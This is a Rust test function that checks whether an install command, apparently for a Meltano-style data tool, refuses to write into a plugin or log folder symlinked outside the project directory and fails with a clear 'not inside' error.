fn a_plugin_or_install_log_folder_linked_out_of_the_project_gets_nothing() {
    for linked in [".eltr/extractors/tap-x", ".eltr/logs/install"] {
        let (tmp, dir) = project_dir();
        fs::write(
            dir.join("meltano.yml"),
            "version: 1\nplugins:\n  extractors:\n  - name: tap-x\n    namespace: tap_x\n    \
             pip_url: tap-x-that-is-never-fetched\n",
        )
        .unwrap();
        let outside = tmp.path().join("outside");
        fs::create_dir_all(&outside).unwrap();
        let link = dir.join(linked);
        fs::create_dir_all(link.parent().unwrap()).unwrap();
        symlink(&outside, &link).unwrap();
        let run = eltr(&dir, ["install"], &[("ELTR_UV", "/nonexistent/uv")]);
        run.clean_error(&["not inside"]);
        let made: Vec<_> = fs::read_dir(&outside)
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .collect();
        assert!(
            made.is_empty(),
            "{linked}: made outside the project: {made:?}"
        );
    }
}
